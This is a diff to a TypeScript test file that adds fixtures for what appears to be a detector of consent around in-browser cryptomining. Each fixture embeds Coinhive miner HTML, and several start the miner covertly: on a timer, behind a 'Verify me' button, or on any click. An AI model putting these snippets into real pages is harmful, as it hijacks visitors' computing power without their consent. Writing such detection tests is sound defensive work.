@@ -468,6 +468,84 @@ const situations: Record<string, { make: () => Promise<Situation>; is: Expected;
     }),
     is: { status: 'opt-in', activity: 'delivered', consent: 'asked-first', placement: 'third-party' },
   },
+  'archive: a start in a function that only a button calls': {
+    make: async () => ({
+      lane: 'archive',
+      artifacts: {
+        request: [
+          await documentOf(
+            `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>var m = new CoinHive.Anonymous("${account}"); function go() { m.start() }</script><button onclick="go()">Start mining for us</button>`,
+          ),
+        ],
+      },
+    }),
+    is: { status: 'opt-in', activity: 'delivered', consent: 'asked-first' },
+  },
+  'archive: a start two functions away from the button': {
+    make: async () => ({
+      lane: 'archive',
+      artifacts: {
+        request: [
+          await documentOf(
+            `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>function really() { new CoinHive.Anonymous("${account}").start() } function go() { really() }</script><button onclick="go()">Start mining</button>`,
+          ),
+        ],
+      },
+    }),
+    is: { status: 'opt-in', activity: 'delivered', consent: 'asked-first' },
+  },
+  'archive: a start in a function that a button and the page call': {
+    make: async () => ({
+      lane: 'archive',
+      artifacts: {
+        request: [
+          await documentOf(
+            `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>function go() { new CoinHive.Anonymous("${account}").start() } setTimeout(go, 5000)</script><button onclick="go()">Start mining for us</button>`,
+          ),
+        ],
+      },
+    }),
+    is: { status: 'loaded', activity: 'delivered', consent: 'not-asked' },
+  },
+  'archive: a start in a function that nobody is seen to call': {
+    make: async () => ({
+      lane: 'archive',
+      artifacts: {
+        request: [
+          await documentOf(
+            `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>function go() { new CoinHive.Anonymous("${account}").start() }</script><button>Start mining for us</button>`,
+          ),
+        ],
+      },
+    }),
+    is: { status: 'loaded', activity: 'delivered', consent: 'not-asked' },
+  },
+  'archive: a start behind a button that does not name mining': {
+    make: async () => ({
+      lane: 'archive',
+      artifacts: {
+        request: [
+          await documentOf(
+            `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>function go() { new CoinHive.Anonymous("${account}").start() }</script><button onclick="go()">Verify me</button>`,
+          ),
+        ],
+      },
+    }),
+    is: { status: 'loaded', activity: 'delivered', consent: 'not-asked' },
+  },
+  'archive: a start at any click on a page that names mining': {
+    make: async () => ({
+      lane: 'archive',
+      artifacts: {
+        request: [
+          await documentOf(
+            `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>document.addEventListener("click", function () { new CoinHive.Anonymous("${account}").start() })</script><button>What is mining?</button>`,
+          ),
+        ],
+      },
+    }),
+    is: { status: 'loaded', activity: 'delivered', consent: 'not-asked' },
+  },
   'archive: library referred to, never started, no account': {
     make: async () => ({
       lane: 'archive',
